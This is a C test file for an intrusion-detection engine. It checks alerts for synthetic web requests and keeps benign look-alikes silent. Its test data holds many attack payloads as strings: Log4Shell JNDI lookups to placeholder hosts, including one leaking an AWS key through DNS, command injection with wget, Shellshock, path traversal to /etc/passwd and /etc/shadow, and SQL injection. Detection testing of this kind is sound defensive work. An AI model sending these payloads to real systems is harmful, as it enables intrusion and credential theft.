/* SPDX-License-Identifier: Apache-2.0 */
#include "testbrain.h"

#include "../../../tests/tap.h"

struct ask {
    const char *src, *dst, *url, *agent, *field, *referer, *answer;
    uint16_t status;
};

static void ask(struct kd_tb *t, double at_s, const struct ask *a)
{
    struct kd_bytes field = kd_str(a->field);
    struct kd_rec_http h = {.hostname = kd_str("www.example.jp"), .url = kd_str(a->url), .http_user_agent = kd_str(a->agent),
                            .http_refer = kd_str(a->referer), .http_method = kd_str("GET"), .status = a->status,
                            .response_head = kd_str(a->answer), .latency_us = 1000};
    if (a->field != NULL)
        h.suspicious = (struct kd_strs){&field, 1};
    struct kd_rec_head head = kd_tb_head(KD_REC_HTTP, at_s, a->src, 40000, a->dst, 80);
    head.app = KD_APP_HTTP;
    kd_tb_put(t, head, &h);
}

static size_t alerts_of(const char *url, const char *agent, const char *id)
{
    struct kd_tb *t = kd_tb_new(NULL, NULL);
    ask(t, 1, &(struct ask){.src = "10.0.0.5", .dst = "10.0.0.80", .url = url, .agent = agent, .status = 200});
    kd_tb_finish(t);
    size_t n = id == NULL ? t->n_alerts : kd_tb_count(t, id);
    CHECK(t->unfilled == 0 || strpbrk(url, "{%?") != NULL || strchr(agent, '{') != NULL); /* braces of its own */
    kd_tb_free(t);
    return n;
}

static bool told(const char *url, const char *agent, const char *id, size_t want)
{
    bool right = alerts_of(url, agent, id) == want;
    if (!right)
        printf("# %s\n", url);
    return right;
}

static void attacks_in_many_spellings(void)
{
    static const char *const code[] = {
        "/?x=${jndi:ldap://192.0.2.1/a}", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
        "/?x=${${lower:j}${::-n}d${upper:i}:${env:NO:-r}mi://x.example/a}", "/cgi-bin/t?a=1;cat%20/etc/hosts",
        "/ping?host=127.0.0.1|id", "/ping?host=$(wget%20x.example)", "/a.php?c=system('id')",
        "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array", "/x?redirect:${%23a=(new%20java.lang.ProcessBuilder())}"};
    static const char *const files[] = {
        "/?page=../../../../etc/passwd", "/a?f=..%2f..%2fetc/shadow", "/static/.%2e/%2e%2e/x",
        "/icons/%252e%252e/%252e%252e/boot", "/a?f=..%c0%af..%c0%afx", "/a?f=..\\..\\..\\x", "/?f=/etc/passwd",
        "/?f=php://filter/convert.base64-encode/resource=index"};
    static const char *const sql[] = {
        "/?id=1%27+union+select+null,password+from+users%23", "/?id=1'/**/UnIoN/**/SeLeCt/**/1,2--", "/?id=1%27%20or%20%271%27=%271",
        "/?id=1'+and+1=1%23", "/?id=1;waitfor+delay+'0:0:5'--", "/?id=(select+group_concat(table_name)from+information_schema.tables)",
        "/login?u=admin'--", "/?id=1+and+sleep(5)"};
    for (size_t i = 0; i < KD_COUNT(code); i++)
        CHECK(told(code[i], "", "KD-PE-0010", 1));
    for (size_t i = 0; i < KD_COUNT(files); i++)
        CHECK(told(files[i], "", "KD-PE-0011", 1));
    for (size_t i = 0; i < KD_COUNT(sql); i++)
        CHECK(told(sql[i], "", "KD-PE-0012", 1));
    CHECK(told("/?n=%3Cscript%3Ealert(1)%3C/script%3E", "", "KD-PE-0010", 1) && told("/tmui/login.jsp/..;/tmui/x", "", "KD-PE-0011", 1));
    CHECK(alerts_of("/", "() { :;}; /bin/ping -c1 192.0.2.9", "KD-PE-0010") == 1);
    CHECK(alerts_of("/", "Mozilla/5.0 ${jndi:dns://192.0.2.9/${env:KEY}}", "KD-PE-0010") == 1);
    CHECK(alerts_of("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", "KD-PE-0010") + alerts_of("/cgi-bin/.%%32%65/.%2e/bin/sh", "", "KD-PE-0010") == 2);
}

static void ordinary_requests_are_silent(void)
{
    static const char *const urls[] = {
        "/", "/search?q=select+a+hotel+from+the+list", "/search?q=union+station", "/?u=o'neil&x=rock+'n'+roll", "/a/../b.css",
        "/combine?f=../../css/a.css", "/ad;dir=x;id=5;ping=1", "/t?id=5&ls=3&cat=2", "/p?x=${width}&y={id}", "/?t=1;2;3|4",
        "/?q=%E8%A6%8B%E7%A9%8D&lang=ja", "/?a=(1)&b=[2]&c=\"x\"", "/js?callback=jQuery123(%27a%27)", "/?url=http://www.example.com/x",
        "/wiki/C%2B%2B_(language)", "/doc?path=C:\\Users\\sato\\a.docx", "/cart?item=cat;dog", "/q?where=a%3D1%20and%20b%3D2"};
    for (size_t i = 0; i < KD_COUNT(urls); i++)
        CHECK(told(urls[i], "Mozilla/5.0 (Linux; U; Android 4; id-id; sh) AppleWebKit/534.30 (KHTML, like Gecko)", NULL, 0));
}

static void severity_by_direction(void)
{
    struct kd_tb *t = kd_tb_new(NULL, NULL);
    ask(t, 1, &(struct ask){.src = "198.51.100.7", .dst = "10.0.0.80", .url = "/?f=../../../etc/passwd", .status = 404});
    kd_tb_finish(t);
    CHECK(kd_tb_count(t, "KD-PE-0011") == 1 && strcmp(kd_tb_alert(t, "KD-PE-0011")->severity, "low") == 0);
    CHECK(strcmp(kd_tb_alert(t, "KD-PE-0011")->host, "10.0.0.80") == 0);
    kd_tb_free(t);
    t = kd_tb_new(NULL, NULL); /* what people type into a search engine */
    ask(t, 1, &(struct ask){.src = "10.0.0.5", .dst = "198.51.100.7", .url = "/s?q=1'+union+select+1--", .status = 200});
    kd_tb_finish(t);
    CHECK(t->n_alerts == 0);
    kd_tb_free(t);
}

static void the_server_calls_where_it_was_told(void)
{
    static const double flow_at[] = {0.5, 3};
    for (size_t i = 0; i < 2; i++) { /* seen before the answer, and after it */
        struct kd_tb *t = kd_tb_new(NULL, NULL);
        struct ask a = {.src = "198.51.100.7", .dst = "10.0.0.80", .url = "/", .status = 200,
                        .field = "X-Api: ${jndi:ldap://203.0.113.9:1389/a}"};
        struct kd_tb_flow f = {.at_s = flow_at[i], .seconds = 0.1, .src = "10.0.0.80", .dst = "203.0.113.9", .src_port = 50000,
                               .dst_port = 1389, .data_ts = 100, .data_tc = 100};
        if (i == 0)
            kd_tb_flow(t, &f);
        ask(t, 1, &a);
        if (i == 1)
            kd_tb_flow(t, &f);
        kd_tb_finish(t);
        CHECK(kd_tb_count(t, "KD-PE-0014") == 1 && kd_tb_count(t, "KD-EX-0001") == 0);
        CHECK(kd_tb_count(t, "KD-PE-0014") != 1 || strcmp(kd_tb_alert(t, "KD-PE-0014")->peer, "198.51.100.7") == 0);
        kd_tb_free(t);
    }
    struct kd_tb *t = kd_tb_new(NULL, NULL); /* it turns to somebody else: its database */
    ask(t, 1, &(struct ask){.src = "198.51.100.7", .dst = "10.0.0.80", .url = "/?x=1;wget+http://203.0.113.9/x", .status = 200});
    kd_tb_flow(t, &(struct kd_tb_flow){.at_s = 2, .src = "10.0.0.80", .dst = "10.0.0.90", .src_port = 50000, .dst_port = 3306});
    kd_tb_finish(t);
    CHECK(kd_tb_count(t, "KD-PE-0010") == 1 && kd_tb_count(t, "KD-PE-0014") == 0);
    kd_tb_free(t);
}

static void a_secret_in_a_name(void)
{
    struct kd_tb *t = kd_tb_new(NULL, NULL);
    ask(t, 1, &(struct ask){.src = "198.51.100.7", .dst = "10.0.0.80", .url = "/", .status = 200,
                            .agent = "${jndi:ldap://${env:AWS_KEY}.c.example/a}"});
    struct kd_rec_dns q = {.rrname = kd_str("AKIA77.c.example"), .rrtype = kd_str("A")};
    struct kd_rec_head h = kd_tb_head(KD_REC_DNS, 2, "10.0.0.80", 50000, "10.0.0.2", 53);
    kd_tb_put(t, h, &q);
    kd_tb_finish(t);
    CHECK(kd_tb_count(t, "KD-EX-0001") == 1 && strstr(kd_tb_alert(t, "KD-EX-0001")->title_en, "AKIA77") != NULL);
    kd_tb_free(t);
}

static void the_answer_tells(void)
{
    struct kd_tb *t = kd_tb_new(NULL, NULL);
    ask(t, 1, &(struct ask){.src = "198.51.100.7", .dst = "10.0.0.80", .url = "/?f=../../../etc/passwd", .status = 200,
                            .answer = "root:x:0:0:root:/root:/bin/bash\n"});
    ask(t, 2, &(struct ask){.src = "198.51.100.8", .dst = "10.0.0.81", .url = "/user.php?id=4", .status = 200,
                            .answer = "uid=4 gid=4"});
    kd_tb_finish(t);
    CHECK(kd_tb_count(t, "KD-PE-0015") == 1 && strcmp(kd_tb_alert(t, "KD-PE-0015")->severity, "high") == 0);
    kd_tb_free(t);
}

static void scans_and_broken_pages(void)
{
    struct kd_tb *t = kd_tb_new(NULL, NULL);
    for (int i = 0; i < 60; i++) {
        char url[40];
        snprintf(url, sizeof(url), "/admin%d.php", i);
        ask(t, i * 0.1, &(struct ask){.src = "10.0.0.5", .dst = "10.0.0.80", .url = url, .status = 404});
        ask(t, i * 0.1, &(struct ask){.src = "10.0.0.6", .dst = "10.0.0.80", .url = url, .status = 404, .referer = "http://www/"});
        ask(t, i * 0.1, &(struct ask){.src = "10.0.0.7", .dst = "10.0.0.80", .url = url, .status = 200});
    }
    kd_tb_finish(t);
    CHECK(kd_tb_count(t, "KD-PE-0013") == 1 && strcmp(kd_tb_alert(t, "KD-PE-0013")->host, "10.0.0.5") == 0);
    kd_tb_free(t);
}

int main(void)
{
    RUN(attacks_in_many_spellings);
    RUN(ordinary_requests_are_silent);
    RUN(severity_by_direction);
    RUN(the_server_calls_where_it_was_told);
    RUN(a_secret_in_a_name);
    RUN(the_answer_tells);
    RUN(scans_and_broken_pages);
    return tap_done();
}
